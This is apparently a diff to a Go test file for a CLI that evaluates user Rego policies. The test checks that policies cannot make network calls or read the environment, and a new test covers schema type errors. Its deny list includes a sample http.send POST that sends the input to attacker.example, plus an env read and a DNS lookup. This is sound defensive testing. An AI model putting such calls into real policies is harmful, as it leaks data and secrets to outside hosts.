@@ -199,8 +199,8 @@ func TestUserPolicy(t *testing.T) {
 func TestUserPolicyCannotReachOut(t *testing.T) {
 	t.Parallel()
 	calls := map[string]string{
-		"http.send":         `resp := http.send({"method": "POST", "url": "https://attacker.example/", "body": input})`,
-		"opa.runtime":       `env := opa.runtime().env`,
+		"http.send":          `resp := http.send({"method": "POST", "url": "https://attacker.example/", "body": input})`,
+		"opa.runtime":        `env := opa.runtime().env`,
 		"net.lookup_ip_addr": `ips := net.lookup_ip_addr("attacker.example")`,
 	}
 	for name, call := range calls {
@@ -219,5 +219,24 @@ func TestUserPolicyCannotReachOut(t *testing.T) {
 				t.Errorf("stderr should name the file, line and builtin:\n%s", stderr)
 			}
 		})
+	}
+}
+
+// TestUserPolicyTypeChecked proves user rules are type-checked against the
+// input schema: a misspelt field fails at load time, naming the file.
+func TestUserPolicyTypeChecked(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	pol := filepath.Join(dir, "policy")
+	typo := strings.Replace(ownerRule, "	not _has_owner\n", "	not _has_owner\n	count(input.resource.containerDefinition) > 0\n", 1)
+	write(t, pol, "typo.rego", typo)
+	td := write(t, dir, "td.json", noRoleTask)
+	code, _, stderr := run(t, "", "--no-config", "--policy", pol, td)
+	if code != cli.ExitError || !strings.Contains(stderr, "containerDefinition") || !strings.Contains(stderr, "typo.rego") {
+		t.Errorf("exit %d, want 2 with a type error naming the field and file:\n%s", code, stderr)
+	}
+	code, stdout, _ := run(t, "", "policy", "schema")
+	if code != cli.ExitOK || !strings.Contains(stdout, `"containerDefinitions"`) {
+		t.Errorf("policy schema: exit %d", code)
 	}
 }
